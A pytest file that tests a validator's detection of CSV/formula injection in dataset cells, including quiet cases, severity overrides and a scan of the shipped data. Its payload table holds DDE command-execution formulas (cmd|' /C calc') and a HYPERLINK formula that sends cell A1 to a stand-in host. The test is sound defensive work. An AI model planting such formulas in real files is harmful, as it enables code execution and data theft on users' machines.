"""Item 4: cells a spreadsheet would run as formulas (CSV injection) are flagged,
one finding per cell with its file, line and column; the shipped dataset trips none."""

from __future__ import annotations

import pytest

from checks.catalogue import RULES
from checks.structure.cells import FORMULA_RULE, FORMULA_START
from tests.conftest import SEED
from tests.hostile.builder import Hostile

PLACES = [
    ("claims.csv", "c0007", "note"),
    ("incidents.csv", "mumbai-2008", "name"),
    ("articles.csv", "002_e3ca868f480167ee", "title"),
    ("exclusions.csv", "002_e3ca868f480167ee", "reason"),
]
PAYLOADS = {
    "=": '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r\n=1+1",  # a CR starting a (quoted) cell; a bare CR is refused by the reader
}


def test_rule_is_registered_as_an_error() -> None:
    assert RULES[FORMULA_RULE].severity.value == "error"
    assert set(PAYLOADS) == set(FORMULA_START)


@pytest.mark.parametrize("start", sorted(PAYLOADS))
@pytest.mark.parametrize(("table", "key", "column"), PLACES)
def test_formula_cell_is_flagged(
    hostile: Hostile, table: str, key: str, column: str, start: str
) -> None:
    line = hostile.set_cell(table, key, column, PAYLOADS[start])
    run = hostile.validate()
    assert run.code == 1
    assert run.located() == {(FORMULA_RULE, table, line, (column,))}
    (finding,) = run.findings()
    assert finding["message"].startswith(f"{column} starts with {start!r} (")
    assert finding["evidence"] == {"first_char": f"U+{ord(start):04X}"}


@pytest.mark.parametrize(
    "value", ["a = b", "x-y", "1+1", "name@example.invalid", " =1", "'=1+1", "\u2212 5"]
)
def test_formula_characters_elsewhere_are_quiet(hostile: Hostile, value: str) -> None:
    hostile.set_cell("claims.csv", "c0007", "note", value)
    run = hostile.validate()
    assert run.code == 0
    assert run.findings() == []


def test_negative_number_is_a_type_error_not_a_formula(hostile: Hostile) -> None:
    """Numeric columns are typed; '-5' there is structure.type, not formula-injection."""
    line = hostile.set_cell("incidents.csv", "mumbai-2008", "injured_high", "-5")
    run = hostile.validate()
    assert ("structure.type", "incidents.csv", line, ("injured_high",)) in run.located()
    assert FORMULA_RULE not in {f["rule_id"] for f in run.findings()}


def test_severity_can_be_lowered_in_the_rules_file(hostile: Hostile) -> None:
    line = hostile.set_cell("claims.csv", "c0007", "note", "=1+1")
    rules = hostile.read("rules.toml").decode()
    hostile.write("rules.toml", (rules + f'"{FORMULA_RULE}" = "warning"\n').encode())
    run = hostile.validate()
    assert run.code == 0
    assert [(f["rule_id"], f["severity"], f["line"]) for f in run.findings()] == [
        (FORMULA_RULE, "warning", line)
    ]


def test_no_shipped_cell_trips_the_rule() -> None:
    """Every cell of datasets/seed, read with the csv module independently of the gate."""
    import csv

    starts = tuple(FORMULA_START)
    for table in sorted(SEED.glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not [cell for cell in row if cell.startswith(starts)], (table, row)
